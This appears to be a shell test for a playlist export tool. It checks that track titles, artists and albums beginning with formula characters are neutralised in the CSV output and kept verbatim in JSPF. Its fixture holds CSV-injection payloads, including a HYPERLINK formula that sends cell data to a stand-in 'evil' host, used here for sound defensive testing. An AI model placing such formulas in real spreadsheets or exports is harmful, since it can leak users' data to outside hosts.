# A title, artist or album that a spreadsheet would run as a formula (first
# character = + - @, tab or carriage return) is neutralised in the CSV:
# a single quote before it, the cell quoted (OWASP's rule).  JSPF and M3U
# keep the text as it is.
. "$SP_ROOT/tests/lib/lib.sh"

cat >recs.ndjson <<'X'
{"user":"u1","rank":1,"track_id":"AAAAAAAAAAAAAAAAAAAAAA","score":0.5,"because":[]}
{"user":"u1","rank":2,"track_id":"BBBBBBBBBBBBBBBBBBBBBB","score":0.25,"because":[]}
X
cat >tracks.ndjson <<'X'
{"track_id":"AAAAAAAAAAAAAAAAAAAAAA","track_name":"=HYPERLINK(\"http://evil/?\"&A1,\"click\")","artist_names":["+cmd","@SUM(1)"],"album_name":"-2+3"}
{"track_id":"BBBBBBBBBBBBBBBBBBBBBB","track_name":"\tTab","artist_names":["\rCR"],"album_name":"Plain = fine"}
X
expect_status 0 sp-publish --offline --date 2026-11-27 -t tracks.ndjson -o pl recs.ndjson
cat >expect.csv <<'X'
rank,track_id,uri,title,artists,album,duration_ms,score,reason
1,AAAAAAAAAAAAAAAAAAAAAA,spotify:track:AAAAAAAAAAAAAAAAAAAAAA,"'=HYPERLINK(""http://evil/?""&A1,""click"")","'+cmd, @SUM(1)","'-2+3",,0.500000,a new release close to what you play
X
printf '2,BBBBBBBBBBBBBBBBBBBBBB,spotify:track:BBBBBBBBBBBBBBBBBBBBBB,"'"'"'\tTab","'"'"'\rCR",Plain = fine,,0.250000,a new release close to what you play\n' >>expect.csv
expect_file expect.csv pl.csv
jq -e '.playlist.track[0].title | startswith("=HYPERLINK")' pl.jspf >/dev/null || fail "JSPF title changed"
